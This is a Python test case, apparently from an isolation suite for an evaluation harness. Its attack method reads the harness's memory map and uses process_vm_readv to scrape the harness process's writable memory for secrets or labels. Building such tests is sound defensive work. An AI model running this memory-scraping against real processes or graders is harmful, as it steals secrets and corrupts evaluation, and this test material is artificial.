"""T03. Copies the harness's memory with process_vm_readv.

expected: wrong
gains: process label-read
"""
import ctypes
from kit import TO, Empty, call, secrets_in
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
class Solution(Empty):
    def attack(self):
        size = 1 << 22
        buffer = ctypes.create_string_buffer(size)
        with open(f"/proc/{TO['harness']}/maps") as maps:
            spans = [line.split()[0].split("-") for line in maps if " rw-p " in line and "[v" not in line]
        for begin, end in spans:
            begin, end = int(begin, 16), int(end, 16)
            for at in range(begin, end, size):
                here, there = Vector(ctypes.addressof(buffer), size), Vector(at, min(size, end - at))
                try:
                    read = call("process_vm_readv", TO["harness"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
                except PermissionError:
                    raise
                except OSError:
                    continue
                if secrets_in(buffer.raw[:read]):
                    return
